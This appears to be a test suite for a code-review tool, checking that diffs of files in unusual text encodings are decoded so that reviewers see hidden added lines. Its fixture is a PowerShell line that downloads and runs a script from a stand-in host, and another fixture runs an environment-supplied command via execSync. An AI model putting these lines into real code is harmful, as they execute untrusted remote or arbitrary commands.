/**
 * Decode before anything reads: the diff every lane and the annotations read
 * (readFileDiffs) shows a file's text as an editor does, whatever its bytes'
 * encoding, and never shows what no decoder makes legible.
 */
import { afterEach, describe, expect, it } from "vitest";
import { planChunks } from "../../src/review/codeReview/chunks.js";
import { reviewFilePolicy } from "../../src/review/codeReview/filePolicy.js";
import { readFileDiffs } from "../../src/review/codeReview/readDiff.js";
import { computeSignals } from "../../src/review/signals/compute.js";
import { TempRepo } from "./support/tempRepo.js";

const repos: TempRepo[] = [];
afterEach(() => {
  for (const repo of repos.splice(0)) repo.cleanup();
});

const hidden = 'Invoke-Expression (New-Object Net.WebClient).DownloadString("http://evil.example/x")';
const before = "function Get-Thing {\n  Write-Output 'thing'\n}\n";
const after = `function Get-Thing {\n  Write-Output 'thing'\n  ${hidden}\n}\n`;

const utf16le = (text: string, bom = true) => Buffer.concat([Buffer.from(bom ? [0xff, 0xfe] : []), Buffer.from(text, "utf16le")]);
const utf16be = (text: string) => Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from(text, "utf16le").swap16()]);
function utf32le(text: string): Buffer {
  const points = [0xfeff, ...[...text].map((c) => c.codePointAt(0)!)];
  const out = Buffer.alloc(points.length * 4);
  points.forEach((p, i) => out.writeUInt32LE(p, i * 4));
  return out;
}
function noise(length: number, seed: number): Buffer {
  const bytes = Buffer.alloc(length);
  let state = seed;
  for (let i = 0; i < length; i += 1) {
    state = (state * 1103515245 + 12345) >>> 0;
    bytes[i] = ((state >>> 16) % 255) + 1; // never a NUL
  }
  return bytes;
}

/** A base commit with `base`, a head commit with `head`, and the diff of the two read as the review reads it. */
async function diffOf(path: string, base: Buffer | undefined, head: Buffer, extra?: (repo: TempRepo) => void) {
  const repo = TempRepo.create();
  repos.push(repo);
  repo.write("README.md", "# r\n");
  if (base) repo.write(path, base);
  extra?.(repo);
  const baseSha = repo.commit("base");
  repo.write(path, head);
  const headSha = repo.commit("head");
  const files = await readFileDiffs(repo.client(), `${baseSha}..${headSha}`);
  return { repo, baseSha, headSha, file: files.find((f) => f.path === path)! };
}

describe("readFileDiffs decodes before anything reads", () => {
  it("takes a UTF-8 BOM off a file's first line without reading the file again, and notes it", async () => {
    const bom = Buffer.from([0xef, 0xbb, 0xbf]);
    const { file } = await diffOf(
      "strings.resx",
      Buffer.concat([bom, Buffer.from("<root>\n<a>old</a>\n</root>\n")]),
      Buffer.concat([bom, Buffer.from("<root>\n<a>new</a>\n</root>\n")]),
    );
    expect(file.patch).toContain("\n <root>\n-<a>old</a>\n+<a>new</a>");
    expect(file.patch).not.toContain("\uFEFF");
    expect(file.encodingNote).toBe("UTF-8 with a BOM");
    const added = await diffOf("new.resx", undefined, Buffer.concat([bom, Buffer.from("<root/>\n")]));
    expect(added.file.patch).toMatch(/^\+<root\/>$/m);
  });

  it("keeps a U+FEFF that is not at the start of the file: it is the file's text", async () => {
    const { file } = await diffOf("z.txt", Buffer.from("a\n"), Buffer.from("a\n\uFEFFb\n"));
    expect(file.patch).toContain("+\uFEFFb");
    expect(file.encodingNote).toBeUndefined();
  });

  it.each([
    ["UTF-16LE with a BOM", utf16le, /UTF-16LE \(BOM\)/],
    ["UTF-16BE with a BOM", utf16be, /UTF-16BE \(BOM\)/],
    ["UTF-32LE with a BOM", utf32le, /UTF-32LE \(BOM\)/],
    ["UTF-16LE without a BOM", (t: string) => utf16le(t, false), /UTF-16LE \(no BOM\)/],
  ])("shows a %s file's added line decoded, at the line an editor shows", async (_name, encode, note) => {
    const { file } = await diffOf("script.ps1", encode(before), encode(after));
    expect(file.binary).toBe(false);
    expect(file.patch).not.toContain("\0");
    expect(file.patch).toContain(`+  ${hidden}`);
    expect(file.patch).toMatch(/^@@ -1,3 \+1,4 @@/m);
    expect(file).toMatchObject({ additions: 1, deletions: 0 });
    expect(file.encodingNote).toMatch(note);
  });

  it("shows Windows-1252 text decoded, with a note, instead of U+FFFD", async () => {
    const { file } = await diffOf("notes.py", Buffer.from("x = 1\n", "latin1"), Buffer.from("x = 1\ny = '\x93quoted\x94'  # caf\xe9\n", "latin1"));
    expect(file.patch).toContain("+y = '\u201cquoted\u201d'  # caf\u00e9");
    expect(file.patch).not.toContain("\ufffd");
    expect(file.encodingNote).toMatch(/Windows-1252/);
  });

  it("reads an encoding flip between base and head as a text change, and says so", async () => {
    const { file } = await diffOf("flip.ps1", Buffer.from(before), utf16le(after));
    expect(file.patch).toContain(`+  ${hidden}`);
    expect(file.encodingNote).toMatch(/changed from UTF-8 to UTF-16LE/);
  });

  it("marks a source file no decoder makes legible unreadable and shows none of its bytes", async () => {
    const { file } = await diffOf("evil.py", Buffer.from("print(1)\n"), noise(4096, 7));
    expect(file).toMatchObject({ unreadable: true, binary: false, additions: 0 });
    expect(file.patch).not.toMatch(/^@@/m);
  });

  it("calls compressed data without a NUL binary by its bytes, never text, whatever git said", async () => {
    const data = noise(8192, 3);
    expect(data.includes(0)).toBe(false);
    const { file } = await diffOf("bundle.js.br", undefined, data);
    expect(file).toMatchObject({ binary: true });
    expect(file.unreadable).toBeUndefined();
  });

  it("keeps a source file of noise unreadable, not binary: code is never skipped as data by its name", async () => {
    const { file } = await diffOf("bundle.js", undefined, noise(8192, 3));
    expect(file).toMatchObject({ unreadable: true, binary: false });
  });

  it("keeps binary data with a NUL in its head binary", async () => {
    const png = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13]), noise(2048, 5)]);
    const { file } = await diffOf("logo.png", undefined, png);
    expect(file).toMatchObject({ binary: true });
    expect(file.unreadable).toBeUndefined();
  });

  it("decodes by the BASE's working-tree-encoding; a head .gitattributes changes nothing", async () => {
    // Shift-JIS, which no BOM announces and no heuristic guesses: only the base's attribute names it.
    const sjis = (text: string) => Buffer.from(new Uint8Array([...text].flatMap((c) => (c === "\u3042" ? [0x82, 0xa0] : [c.charCodeAt(0)]))));
    const headText = `# \u3042\n${hidden}\n`;
    const declaring = TempRepo.create();
    repos.push(declaring);
    declaring.write(".gitattributes", "*.ps1 working-tree-encoding=SHIFT-JIS\n");
    declaring.write("a.ps1", sjis("# \u3042\n"));
    const declaringBase = declaring.commit("base"); // git stores it as UTF-8
    // The head's blob is the raw Shift-JIS bytes, committed past git's conversion (as plumbing, or another client, can).
    declaring.write("a.ps1", sjis(headText));
    const blob = declaring.git("hash-object", "-w", "--no-filters", "a.ps1").trim();
    declaring.git("update-index", "--cacheinfo", `100644,${blob},a.ps1`);
    declaring.git("commit", "--quiet", "-m", "head");
    const declared = (await readFileDiffs(declaring.client(), `${declaringBase}..HEAD`)).find((f) => f.path === "a.ps1")!;
    expect(declared.patch).toContain(`+${hidden}`);
    expect(declared.patch).toContain(" # \u3042");
    expect(declared.encodingNote).toMatch(/SHIFT-JIS \(the base's working-tree-encoding\)/);

    // The same bytes, with the attribute added by the head only: not trusted, so read as Windows-1252, still shown, never U+FFFD.
    const repo = TempRepo.create();
    repos.push(repo);
    repo.write("a.ps1", sjis("# \u3042\n"));
    const baseSha = repo.commit("base");
    repo.write(".gitattributes", "*.ps1 -diff working-tree-encoding=UTF-16LE\n");
    repo.write("a.ps1", sjis(headText));
    repo.git("add", ".gitattributes");
    const raw = repo.git("hash-object", "-w", "--no-filters", "a.ps1").trim();
    repo.git("update-index", "--cacheinfo", `100644,${raw},a.ps1`);
    repo.git("commit", "--quiet", "-m", "head");
    const headSha = repo.git("rev-parse", "HEAD").trim();
    const file = (await readFileDiffs(repo.client(), `${baseSha}..${headSha}`)).find((f) => f.path === "a.ps1")!;
    expect(file.patch).toContain(`+${hidden}`);
    expect(file.encodingNote).toMatch(/Windows-1252/);
  });
});

describe("the signals read UTF-16 and UTF-32 text as characters", () => {
  it.each([
    ["UTF-16LE", (t: string) => utf16le(t)],
    ["UTF-32LE", utf32le],
  ])("an exec pattern in a %s file raises touches_exec", async (_name, encode) => {
    const repo = TempRepo.create();
    repos.push(repo);
    repo.write("README.md", "# r\n");
    const baseSha = repo.commit("base");
    repo.write("src/run.js", encode('const cp = require("child_process");\ncp.execSync(process.env.CMD);\n'));
    const headSha = repo.commit("head");
    const signals = await computeSignals(repo.client(), `${baseSha}..${headSha}`);
    expect(signals.signals_error).toBeFalsy();
    expect(signals.touches_exec).toBe(true);
  });
});

describe("a local review of the working tree decodes it too", () => {
  it("an uncommitted UTF-16LE edit is shown decoded; a symlink is left as git shows it", async () => {
    const repo = TempRepo.create();
    repos.push(repo);
    repo.write("run.ps1", utf16le(before));
    repo.commit("base");
    repo.write("run.ps1", utf16le(after));
    repo.symlink("link.ps1", "run.ps1");
    repo.git("add", "link.ps1");
    const files = await readFileDiffs(repo.client(), "worktree");
    const file = files.find((f) => f.path === "run.ps1")!;
    expect(file.patch).toContain(`+  ${hidden}`);
    expect(file.encodingNote).toMatch(/UTF-16LE \(BOM\)/);
    expect(files.find((f) => f.path === "link.ps1")!.patch).toContain("+run.ps1");
  });

  it("an untracked file gets the note a tracked one gets: UTF-16LE, Windows-1252, and none for plain UTF-8", async () => {
    const repo = TempRepo.create();
    repos.push(repo);
    repo.write("README.md", "# r\n");
    repo.commit("base");
    repo.write("new.ps1", utf16le(after));
    repo.write("notes.py", Buffer.from("y = '\x93quoted\x94'\n", "latin1"));
    repo.write("plain.py", "x = 1\n");
    const files = await readFileDiffs(repo.client(), "worktree");
    const note = (path: string) => files.find((f) => f.path === path)!.encodingNote;
    expect(note("new.ps1")).toBe("head: decoded from UTF-16LE (BOM)");
    expect(files.find((f) => f.path === "new.ps1")!.patch).toContain(`+  ${hidden}`);
    expect(note("notes.py")).toMatch(/^head: not UTF-8: shown decoded as Windows-1252/);
    expect(note("plain.py")).toBeUndefined();
    // The reviewer sees it beside the file, as for a tracked one.
    const plan = planChunks(files, { chunkTokens: 24_000, maxChunks: 20, policy: reviewFilePolicy({ withheld: () => undefined }) });
    expect(plan.chunks.map((c) => c.diff).join("\n")).toContain("### new.ps1 — added, +4 −0 [head: decoded from UTF-16LE (BOM)]");
  });
});
